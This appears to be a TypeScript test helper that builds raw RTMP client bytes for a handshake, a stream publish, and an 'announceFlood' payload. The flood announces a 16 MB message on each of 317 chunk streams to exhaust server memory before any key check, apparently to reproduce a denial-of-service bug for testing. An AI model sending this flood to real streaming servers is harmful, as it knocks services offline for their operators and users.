// Raw RTMP client bytes for tests: a blind handshake, a publish, and abusive chunk headers (a memory flood before any key check). A server
// such as node-media-server reads C2 and the commands without waiting for its own answers, so none are awaited.
import { createRequire } from "node:module";

const require = createRequire(import.meta.url);
const AMF = require("node-media-server/src/protocol/amf.js") as { encodeAmf0Cmd(opt: Record<string, unknown>): Buffer };

/** C0 + C1 + C2 (simple handshake: C2 is not checked by the server). */
export function handshake(): Buffer {
  return Buffer.concat([Buffer.from([3]), Buffer.alloc(1536), Buffer.alloc(1536)]);
}

/** One chunk stream message in one chunk (fmt 0); the payload must fit the chunk size in force. */
export function message(csid: number, type: number, payload: Buffer, streamId = 0): Buffer {
  const header = Buffer.alloc(12);
  header[0] = csid;
  header.writeUIntBE(payload.length, 4, 3);
  header[7] = type;
  header.writeUInt32LE(streamId, 8);
  return Buffer.concat([header, payload]);
}

/** A Set Chunk Size message. */
export function setChunkSize(size: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(size);
  return message(2, 1, payload);
}

/** Everything a publisher sends to start publishing `key` on application `app` (chunk size raised to 4096 first). */
export function publishCommands(url: { host: string; port: number }, app: string, key: string): Buffer {
  const cmd = (opt: Record<string, unknown>, streamId = 0) => message(3, 20, AMF.encodeAmf0Cmd(opt), streamId);
  return Buffer.concat([
    setChunkSize(4096),
    cmd({ cmd: "connect", transId: 1, cmdObj: { app, type: "nonprivate", flashVer: "FMLE/3.0", tcUrl: `rtmp://${url.host}:${url.port}/${app}` } }),
    cmd({ cmd: "createStream", transId: 2, cmdObj: null }),
    cmd({ cmd: "publish", transId: 3, cmdObj: null, streamName: key, type: "live" }, 1),
  ]);
}

/** The chunk stream ids 2..319 in their 1- and 2-byte forms: 317 of them, the flood that once took a node's virtual size to 37.7 GB. */
export const ATTACK_CHUNK_STREAMS: readonly number[] = [...Array(318).keys()].map((i) => i + 2).slice(0, 317);

/** A chunk header of a message of `length` bytes (fmt 0) on chunk stream `csid`, 1- or 2-byte basic header. */
export function announce(csid: number, length: number): Buffer {
  const basic = csid < 64 ? [csid] : [0, csid - 64];
  const header = Buffer.alloc(basic.length + 11);
  header.set(basic, 0);
  header.writeUIntBE(length, basic.length + 3, 3);
  header[basic.length + 6] = 9;
  return header;
}

/**
 * The measured attack pattern: one 0xFFFFFF-byte message announced on each of 317 chunk streams, each followed by one 128-byte
 * chunk of its body (the server's chunk size), so the next header is read as a header (~45 KB in all).
 */
export function announceFlood(): Buffer {
  return Buffer.concat(ATTACK_CHUNK_STREAMS.map((csid) => Buffer.concat([announce(csid, 0xffffff), Buffer.alloc(128, 0x55)])));
}
